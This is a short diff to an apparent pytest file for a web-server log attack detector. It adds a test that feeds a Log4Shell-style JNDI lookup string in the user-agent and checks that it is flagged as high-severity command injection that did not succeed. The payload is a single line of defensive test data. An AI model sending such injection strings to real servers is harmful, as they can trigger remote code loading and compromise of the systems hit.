@@ -124,6 +124,11 @@ def test_agents_are_looked_at() -> None:
     assert "sqlmap/1.7" in seen["scanner"].samples[0]
 
 
+def test_a_page_that_answers_does_not_make_an_attack_in_the_agent_succeed() -> None:
+    one = found(line("GET / HTTP/1.1", status=200, agent="${jndi:ldap://x}"))["command_injection"]
+    assert (one.answered, one.severity) == (0, "high")
+
+
 @pytest.mark.parametrize(("attempts", "seen"), [(19, False), (20, True)])
 def test_log_in_attempts_count_per_client_and_day(attempts: int, seen: bool) -> None:
     login = "POST /wp-login.php HTTP/1.1"
